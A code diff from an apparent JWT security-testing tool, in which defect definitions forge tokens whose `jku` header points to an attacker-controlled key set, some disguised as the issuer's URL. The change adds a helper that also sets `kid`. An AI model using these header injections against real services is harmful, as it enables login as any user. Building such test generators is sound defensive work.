@@ -1,7 +1,7 @@
 //! A URL of keys in the header (RFC 7515 section 4.1.2). Every URL leads to the canary: a fetch
 //! is in the journal, and is answered with the attacker's JWK Set.
 
-use serde_json::json;
+use serde_json::{Value, json};
 
 use crate::defects::{Argument, Attacker, Defect, Gains, Inject};
 use crate::mint::{Draft, MintContext, Signing};
@@ -13,7 +13,7 @@ pub(super) static ALL: &[Defect] = &[
         id: "header.jku-attacker",
         summary: "signs with a key of its own and lets `jku` point to it",
         inject: &[
-            Inject::Header(|draft, cx| draft.header.set("jku", url(cx))),
+            Inject::Header(|draft, cx| point_to(draft, cx, url(cx))),
             Inject::Key(attacker_signs),
         ],
         evidence: &["jwt_tool -X s", "PortSwigger: JWT bypass via jku header injection"],
@@ -26,7 +26,7 @@ pub(super) static ALL: &[Defect] = &[
         inject: &[
             Inject::Header(|draft, cx| {
                 let trusted = format!("{}/jwks", cx.sound.issuer);
-                draft.header.set("jku", json!([url(cx), trusted]));
+                point_to(draft, cx, json!([url(cx), trusted]));
             }),
             Inject::Key(attacker_signs),
         ],
@@ -39,7 +39,7 @@ pub(super) static ALL: &[Defect] = &[
         summary: "lets `jku` begin or end like the issuer's URL and lead to the attacker",
         argument: Argument::OneOf(&["dot-segments", "userinfo", "query", "fragment"]),
         inject: &[
-            Inject::Header(|draft, cx| draft.header.set("jku", disguised(cx))),
+            Inject::Header(|draft, cx| point_to(draft, cx, disguised(cx))),
             Inject::Key(attacker_signs),
         ],
         evidence: &["RFC 8725 section 3.10"],
@@ -54,6 +54,12 @@ const FETCHED: Defect = Defect {
     gains: Gains::LoginAsAnyone,
     ..Defect::PLAIN
 };
+
+/// Sets `jku`, and `kid` to the name that the key has behind it.
+fn point_to(draft: &mut Draft, cx: &MintContext<'_>, jku: impl Into<Value>) {
+    draft.header.set("jku", jku.into());
+    draft.header.set("kid", cx.attacker().name);
+}
 
 fn attacker_signs(draft: &mut Draft, cx: &MintContext<'_>) {
     draft.sign_with(Signing::Key(cx.attacker(), cx.sound.alg));
